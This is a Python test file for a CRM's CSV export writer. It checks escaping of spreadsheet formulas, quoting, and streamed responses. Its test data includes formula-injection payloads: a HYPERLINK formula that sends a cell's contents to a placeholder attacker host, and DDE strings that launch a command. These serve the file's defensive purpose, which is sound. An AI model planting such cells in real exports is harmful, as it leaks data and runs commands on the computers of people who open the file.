"""The one CSV writer: cells a spreadsheet would run are escaped, rows are written lazily."""

import csv
import io
import itertools

import pytest

from crm.csv import csv_lines, csv_response, csv_text, escape_cell


def read(text: str, delimiter: str = ";") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
def test_a_cell_a_spreadsheet_would_run_comes_out_prefixed_with_a_quote(cell, delimiter):
    # when
    text = csv_text([["ok", cell]], delimiter=delimiter)

    # then
    assert read(text, delimiter) == [["ok", "'" + cell]]


def test_ordinary_negative_numbers_are_escaped_too():
    # A writer cannot tell -12 from -2+3+cmd|… without guessing: both get the quote.
    assert escape_cell(-12) == "'-12"
    assert escape_cell("-12") == "'-12"
    assert read(csv_text([[-12, -3.5]])) == [["'-12", "'-3.5"]]


def test_ordinary_cells_are_written_as_they_are():
    text = csv_text([[3, "Anatomie générale", None, "a=b", "x-1", "d'accord"]], header=["n", "t"])

    assert read(text) == [["n", "t"], ["3", "Anatomie générale", "", "a=b", "x-1", "d'accord"]]


def test_the_header_is_escaped_like_any_row():
    assert read(csv_text([], header=["=1+1", "ok"])) == [["'=1+1", "ok"]]


def test_every_cell_is_quoted_so_another_delimiter_cannot_start_a_new_cell():
    # given a ';' file opened as ',' (or the reverse), an unquoted "a,=1+1" would split
    text = csv_text([["a,=1+1", "b;@SUM(1)"]], delimiter=";")

    # then
    assert text == '"a,=1+1";"b;@SUM(1)"\r\n'
    assert all(not cell.startswith(("=", "@")) for cell in read(text, ",")[0])


def test_streaming_pulls_one_row_per_line_from_a_million_row_generator():
    # given
    pulled = []

    def million():
        for i in range(1_000_000):
            pulled.append(i)
            yield [i, f"=row {i}"]

    # when
    lines = csv_lines(million(), header=["n", "value"])
    first = list(itertools.islice(lines, 3))

    # then
    assert first == ['"n";"value"\r\n', '"0";"\'=row 0"\r\n', '"1";"\'=row 1"\r\n']
    assert pulled == [0, 1]


def test_the_response_sends_its_lines_a_few_hundred_at_a_time():
    rows = ([i, f"=row {i}"] for i in range(1_234))
    chunks = list(csv_response(rows, header=["n", "v"], filename="x.csv").streaming_content)
    # the BOM and the header, then 1,234 rows: 1,236 lines in chunks of 500
    assert len(chunks) == 3
    text = b"".join(chunks).decode()
    assert text.count("\r\n") == 1_235 and text.endswith('"1233";"\'=row 1233"\r\n')


def test_the_response_streams_with_a_bom_and_the_filename():
    # when
    response = csv_response(iter([["=1"]]), header=["a"], filename="export.csv")

    # then
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="export.csv"' in response["Content-Disposition"]
    assert b"".join(response.streaming_content).decode() == '\ufeff"a"\r\n"\'=1"\r\n'
